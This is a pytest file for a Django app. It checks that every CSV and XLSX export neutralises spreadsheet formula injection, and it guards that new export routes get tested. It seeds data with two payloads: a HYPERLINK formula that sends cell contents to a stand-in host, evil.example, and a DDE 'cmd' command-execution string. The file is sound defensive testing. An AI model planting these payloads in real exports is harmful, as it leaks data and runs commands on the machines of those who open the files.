"""Formula-safe exports everywhere (issue 14, item 6): every CSV and XLSX endpoint writes through
`common.exports`, so a text such as `=HYPERLINK(...)` (typed into the public table-card link, a project title, a
registration's needs) arrives in the organiser's spreadsheet as text. A guard fails when a new export route has
no row here."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from motesplats.networking import services

from .conftest import compute

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
EVIL_TOO = "+cmd|' /C calc'!A0"


def cells_of(response: Any) -> list[str]:
    """The texts of a CSV file, or of an XLSX file's text cells (a formula cell fails the test at once)."""
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = content.decode("utf-8-sig")
        header = text.splitlines()[0]
        delimiter = ";" if header.count(";") > header.count(",") else ","
        return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if cell.data_type == "s" and str(cell.value)[:1] in ("=", "+", "-", "@"):
                        cells.append("'" + str(cell.value))  # a text cell: shown as it is, never run
                    else:
                        cells.append(str(cell.value))
    return cells


@pytest.fixture
def exports(world: Any, organiser: Any) -> dict[str, str]:
    """Each export route name -> its URL, over data that carries formulas where outsiders can type text."""
    from motesplats.events.models import Registration
    from motesplats.registry.models import Project

    Registration.objects.filter(event=world.second).update(dietary=EVIL, accessibility=EVIL_TOO)
    Project.objects.filter(pk=world.people[0].registrations.first().project_id).update(title=EVIL, summary=EVIL_TOO)
    plan = services.plan_publish(plan=compute(world.items["first_tables"]))
    for outcome in plan.outcomes.all():
        outcome.answers = [EVIL, EVIL_TOO, "-1+1"]
        outcome.save()
    from django.db import transaction

    from motesplats.audit import services as audit

    with transaction.atomic():  # a logged action whose target's name is a formula
        audit.record(actor=organiser, action=audit.Action.IMPORT, target=None).__class__.objects.update(
            target_label=EVIL)
    return {
        "events:export_csv": reverse("events:export_csv", args=[world.second.slug]),
        "events:export_xlsx": reverse("events:export_xlsx", args=[world.second.slug]),
        "registry:project_export_csv": reverse("registry:project_export_csv"),
        "registry:project_export_xlsx": reverse("registry:project_export_xlsx"),
        "networking:outcomes_csv": reverse("networking:outcomes_csv", kwargs={"pk": plan.pk}),
        "audit:export_csv": reverse("audit:export_csv"),
    }


def export_routes() -> set[str]:
    """Every URL name whose route ends in .csv or .xlsx."""
    found: set[str] = set()

    def walk(patterns: list[Any], namespace: str = "") -> None:
        for entry in patterns:
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, f"{namespace}{entry.namespace}:" if entry.namespace else namespace)
            elif isinstance(entry, URLPattern) and str(entry.pattern).endswith((".csv", ".xlsx")) and entry.name:
                found.add(namespace + entry.name)

    walk(get_resolver().url_patterns)
    return found


# Routes whose formula safety another test holds (through the same helper, common.exports.csv_text).
TESTED_ELSEWHERE = {
    name: "tests/datasharing/test_views.py::test_the_history_export_is_safe_for_spreadsheets (views._steps_csv)"
    for name in ("datasharing:history_export", "datasharing:request_history", "datasharing:agreement_history")
} | {"insight:figure_csv": "tests/insight/test_views.py::test_a_figure_downloads_as_csv_that_a_spreadsheet_cannot_run "
                           "(common.csv_export, which writes through common.exports)"}


def test_every_export_route_is_tested_here(exports: dict[str, str]) -> None:
    assert export_routes() - set(exports) - set(TESTED_ELSEWHERE) == set()


def test_no_export_writes_a_formula(client: Client, organiser: Any, exports: dict[str, str]) -> None:
    client.force_login(organiser)
    for name, url in exports.items():
        response = client.get(url)
        assert response.status_code == 200, name
        cells = cells_of(response)
        assert any(EVIL in cell for cell in cells), (name, "the data did not reach the file")
        dangerous = [cell for cell in cells if cell and cell[0] in "=+-@\t\r"]
        assert dangerous == [], name
